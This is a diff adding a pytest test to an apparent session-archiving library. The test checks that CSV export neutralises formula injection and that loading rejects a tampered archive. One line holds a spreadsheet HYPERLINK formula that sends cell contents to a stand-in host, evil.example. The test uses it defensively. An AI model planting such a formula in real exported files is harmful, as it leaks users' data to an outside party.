@@ -135,3 +135,38 @@ def test_the_demo_archives_still_load(tmp_path: Path) -> None:
     with open_store(str(tmp_path / "demo.sqlite"), data) as store:
         for session in ("demo-1", "demo-2", "demo-3"):
             assert load_records(store, data / "sessions" / session / "records")["ratings"] > 0
+
+
+def test_hope_session_archive_and_load_from_the_command_line(
+    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from hopelib.cli import main
+
+    _second_session(data_dir, "2021-10-maribor")
+    store = tmp_path / "first.sqlite"
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    with open_store(str(store), data_dir) as opened:
+        opened.add_note(SESSION, "north", "@AK", formula)
+        opened.add_note(SESSION, "north", "@AK", "two\nlines")
+        opened.add_action(SESSION, "north", "@AK", "-call them", owner="+Team")
+    options = ["--data", str(data_dir), "--store", str(store)]
+    assert main(["session", "archive", SESSION, *options]) == 0
+    assert "notes.csv  2 rows" in capsys.readouterr().out  # rows, not lines
+    folder = data_dir / "sessions" / SESSION / "records"
+    notes = (folder / "notes.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in notes and ",'@ak," in notes
+    assert ",'-call them,'+Team," in (folder / "actions.csv").read_text(encoding="utf-8")
+    fresh = ["--data", str(data_dir), "--store", str(tmp_path / "fresh.sqlite")]
+    assert main(["session", "load", str(folder), *fresh]) == 0
+    capsys.readouterr()
+    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as loaded:
+        assert formula in set(loaded.notes(SESSION)["text"])  # exactly as typed
+        assert set(loaded.actions(SESSION)["owner"]) == {"+Team"}
+    tamper(folder / "notes.csv", "session", "2021-10-maribor")
+    other = ["--data", str(data_dir), "--store", str(tmp_path / "other.sqlite")]
+    assert main(["session", "load", str(folder), *other]) == 1
+    err = capsys.readouterr().err
+    assert f"{folder / 'notes.csv'}:2: session: '2021-10-maribor' is another session" in err
+    assert "Traceback" not in err
+    with open_store(str(tmp_path / "other.sqlite"), data_dir) as untouched:
+        assert untouched.notes(SESSION).empty and untouched.ratings(SESSION).empty
